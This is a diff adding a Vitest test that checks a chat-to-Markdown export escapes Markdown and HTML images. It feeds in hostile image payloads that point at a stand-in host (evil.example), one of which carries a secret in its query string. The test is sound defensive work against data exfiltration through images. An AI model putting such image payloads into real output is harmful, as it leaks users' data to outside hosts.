@@ -1,3 +1,4 @@
+import { micromark } from "micromark";
 import { describe, expect, it } from "vitest";
 import { sessionToMarkdown } from "./chat.export";
 import type { ChatMessageView, ChatSessionView } from "./chat.presenter";
@@ -87,5 +88,36 @@ describe("sessionToMarkdown", () => {
     ]);
     expect(md).toContain("Halvt\n\n_(Svaret blev stoppet.)_");
     expect(md).toContain("_(Fejl: AI-assistenten svarede ikke i tide. Prøv igen.)_");
+  });
+
+  it("should load no image from the user's text or an answer in a Markdown viewer, showing each as a link", () => {
+    const hostile = [
+      "Se ![kvittering](https://evil.example/a.png?q=hemmelig)",
+      "\\\\![to skråstreger](https://evil.example/b.png)",
+      "\\![allerede escaped](https://evil.example/c.png)",
+      "!![dobbelt](https://evil.example/d.png)",
+      "[![i et link](https://evil.example/e.png)](https://example.org)",
+      "![reference][r]\n\n[r]: https://evil.example/f.png",
+      "```\n![i kode](https://evil.example/g.png)\n```",
+      "<img src=https://evil.example/h.png>",
+    ];
+    const md = sessionToMarkdown(session, [
+      ...hostile.map((content) => message({ role: "user", content })),
+      // an answer stored before the answer engine stripped HTML, and one with an image the model was asked for
+      message({ role: "assistant", status: "complete", content: hostile.join("\n\n") }),
+      // a fence left open by one message cannot hide an image in the next from the escaping
+      message({ role: "assistant", status: "complete", content: "```\nåben kode" }),
+      message({
+        role: "assistant",
+        status: "complete",
+        content: "```\n![efter](https://evil.example/i.png)",
+      }),
+    ]);
+    // a viewer that renders raw HTML too
+    const html = micromark(md, { allowDangerousHtml: true });
+    expect(html).not.toContain("<img");
+    // the image reads as a link to its address, as the web app shows it
+    expect(md).toContain("> Se \\![kvittering](https://evil.example/a.png?q=hemmelig)");
+    expect(html).toContain('<a href="https://evil.example/a.png?q=hemmelig">kvittering</a>');
   });
 });
